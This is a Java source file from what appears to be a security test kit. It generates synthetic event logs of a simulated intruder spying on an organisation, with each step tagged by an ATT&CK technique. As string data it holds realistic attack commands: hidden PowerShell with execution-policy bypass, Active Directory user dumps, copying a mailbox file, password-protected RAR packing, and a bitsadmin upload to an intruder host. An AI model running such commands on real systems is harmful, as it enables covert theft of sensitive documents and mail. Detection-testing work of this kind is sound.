package org.tocsin.testkit.sample;

import static org.tocsin.testkit.sample.Office.CMD;
import static org.tocsin.testkit.sample.Office.FS;
import static org.tocsin.testkit.sample.Office.JONAS_PC;
import static org.tocsin.testkit.sample.Office.MARA;
import static org.tocsin.testkit.sample.Office.MARA_PC;

import java.time.Instant;
import org.tocsin.testkit.Machine;
import org.tocsin.testkit.Machine.Account;
import org.tocsin.testkit.Program.Running;
import org.tocsin.testkit.SecurityEvents;
import org.tocsin.testkit.SystemEvents;
import org.tocsin.testkit.sample.Chronicle.Side;

/// What the intruder came for: people, contacts, plans, the director's mail.
final class Spying {
    private final Chronicle chronicle;

    Spying(Chronicle chronicle) {
        this.chronicle = chronicle;
    }

    void watch() {
        lookForPeople();
        waitQuietly();
        collectPlans();
        searchDirector();
        catchPassword();
    }

    private Scene scene(Machine machine, Account who, String start) {
        return new Scene(chronicle, Side.INTRUDER, machine, who, start);
    }

    private void lookForPeople() {
        Scene s = scene(MARA_PC, MARA, "2025-08-26T18:20:44.8980102Z");
        String script =
                "Import-Module ActiveDirectory\r\nGet-ADUser -Filter * -Properties mail,telephoneNumber,title | "
                        + "Export-Csv C:\\PerfLogs\\u.csv\r\nGet-ADGroupMember -Identity 'Partners' -Recursive | Export-Csv "
                        + "C:\\PerfLogs\\p.csv";
        Running shell = s.run(
                Office.POWERSHELL,
                "powershell.exe -nop -w hidden -ep bypass -file C:\\PerfLogs\\u.ps1",
                Intruder.implant(s),
                "T1059.001",
                "hidden PowerShell of the implant");
        s.show(
                SystemEvents.scriptBlock(MARA_PC, s.tick(), MARA, shell.pid(), script, "C:\\PerfLogs\\u.ps1"),
                "T1087.002",
                "people and partners taken from the directory");
        s.file(shell, Intruder.PERF + "u.csv", "T1074.001", "list of people in a staging folder");
        Running cmd =
                s.run(CMD, "C:\\Windows\\system32\\cmd.exe", Intruder.implant(s), "T1059.003", "shell of the implant");
        s.run(Office.NET, "net  group Partners /domain", cmd, "T1069.002", "asks who the partners are");
    }

    /// For months nothing but a call now and then.
    private void waitQuietly() {
        for (String day : new String[] {
            "2025-09-09",
            "2025-10-01",
            "2025-10-24",
            "2025-11-13",
            "2026-01-08",
            "2026-01-29",
            "2026-03-19",
            "2026-04-16",
            "2026-05-12",
            "2026-07-02",
            "2026-07-23"
        }) {
            call(MARA_PC, day + "T09:14:51.3141592Z");
        }
        for (String day : new String[] {"2025-08-20", "2025-12-11", "2026-04-28", "2026-06-23", "2026-08-18"}) {
            call(JONAS_PC, day + "T10:41:13.7182818Z");
        }
    }

    private void call(Machine from, String when) {
        Scene s = scene(from, Account.SYSTEM, when);
        s.call(Intruder.implant(s), Intruder.CONTROL, Intruder.CONTROL_IP, "T1071.001", "call to the control server");
    }

    /// The documents of the organisation: listed, searched, packed, sent.
    private void collectPlans() {
        Scene s = scene(FS, Account.SYSTEM, "2025-12-02T21:15:06.1618033Z");
        Running shell = s.run(
                CMD,
                "cmd.exe /c C:\\PerfLogs\\doc.bat",
                Intruder.serverImplant(s),
                "T1059.003",
                "batch file of the intruder");
        s.run(
                CMD,
                "cmd.exe  /c dir /s /b /a D:\\Shares\\*.docx D:\\Shares\\*.xlsx D:\\Shares\\*.pdf > C:\\PerfLogs\\d.txt",
                shell,
                "T1083",
                "all documents listed into a file");
        s.run(
                Office.FINDSTR,
                "findstr  /s /i /m \"delegation witness itinerary\" D:\\Shares\\Plans\\*.txt D:\\Shares\\Plans\\*.csv",
                shell,
                "T1083",
                "documents searched for words of the organisation's work");
        Running rar = s.run(
                Office.RAR,
                "C:\\PerfLogs\\rar.exe  a -r -v50m -hpMadeUp-02 C:\\Recovery\\p1.rar D:\\Shares\\Plans\\*.docx "
                        + "D:\\Shares\\Contacts\\*.xlsx",
                shell,
                "T1560.001",
                "plans and contact lists packed with a password");
        for (String file : new String[] {
            "Plans\\Spring delegation plan.docx",
            "Plans\\Witness travel itinerary.docx",
            "Contacts\\Partner contacts.xlsx"
        }) {
            s.show(
                    SecurityEvents.fileRead(FS, s.tick(), "D:\\Shares\\" + file, rar),
                    "T1039",
                    "document read for packing");
        }
        s.pause("PT26M");
        s.run(
                Office.BITSADMIN,
                "bitsadmin  /transfer sync /upload /priority normal https://" + Intruder.FILES
                        + "/u/p1.rar C:\\Recovery\\p1.rar",
                Intruder.serverImplant(s),
                "T1048",
                "archive sent out with a Windows tool");
        s.show(
                SystemEvents.transfer(
                        FS, s.tick(), s.who(), "sync", "https://" + Intruder.FILES + "/u/p1.rar", 38_204_416),
                "T1197",
                "archive sent out with a Windows tool");
    }

    private void searchDirector() {
        Scene s = scene(MARA_PC, MARA, "2026-06-09T18:33:20.7071067Z");
        Running shell =
                s.run(CMD, "C:\\Windows\\system32\\cmd.exe", Intruder.implant(s), "T1059.003", "shell of the implant");
        s.run(
                CMD,
                "cmd  /c dir /s /b C:\\Users\\mara\\*passport* C:\\Users\\mara\\*visa* > C:\\PerfLogs\\v.txt",
                shell,
                "T1083",
                "papers of travellers looked for");
        s.run(
                Office.FINDSTR,
                "findstr  /s /i /m \"delegation witness\" C:\\Users\\mara\\Documents\\*.txt",
                shell,
                "T1083",
                "documents searched for words of the organisation's work");
        Running powershell = s.run(
                Office.POWERSHELL,
                "powershell.exe -nop -w hidden -ep bypass -file C:\\PerfLogs\\f.ps1",
                Intruder.implant(s),
                "T1059.001",
                "hidden PowerShell of the implant");
        s.show(
                SystemEvents.scriptBlock(
                        MARA_PC,
                        s.tick(),
                        MARA,
                        powershell.pid(),
                        "Get-ChildItem C:\\Users\\mara -Recurse -Include *contact*,*plan*,*itinerary* -ErrorAction "
                                + "SilentlyContinue | Select-Object FullName,LastWriteTime | Export-Csv C:\\PerfLogs\\f.csv",
                        "C:\\PerfLogs\\f.ps1"),
                "T1083",
                "contacts and plans looked for");
        s.run(
                CMD,
                "cmd  /c copy /y C:\\Users\\mara\\AppData\\Local\\Microsoft\\Outlook\\mara@quillfeather.example.ost "
                        + "C:\\PerfLogs\\o.dat",
                shell,
                "T1114.001",
                "the director's mailbox copied");
        Running rar = s.run(
                Office.RAR,
                "C:\\PerfLogs\\rar.exe  a -r -hpMadeUp-03 C:\\PerfLogs\\m.rar C:\\Users\\mara\\Documents\\*.docx C:\\PerfLogs\\o.dat",
                shell,
                "T1560.001",
                "documents and mailbox packed with a password");
        s.file(rar, Intruder.PERF + "m.rar", "T1074.001", "archive in a staging folder");
        s.pause("PT8M");
        s.call(Intruder.implant(s), Intruder.FILES, Intruder.FILES_IP, "T1041", "archive sent out");
    }

    /// A page that looks like the organisation's own; the mail that led there is in the mails.
    private void catchPassword() {
        Scene s = scene(MARA_PC, MARA, "2026-08-11T08:47:31.2247448Z");
        Running browser = Running.started(
                MARA_PC,
                Instant.parse("2026-08-11T06:50:00Z"),
                Office.EDGE,
                '"' + Office.EDGE.image() + "\" --profile-directory=Default",
                MARA,
                5_724);
        s.call(browser, Intruder.LOGIN, Intruder.LOGIN_IP, "T1566.002", "page that imitates the organisation opened");
    }
}
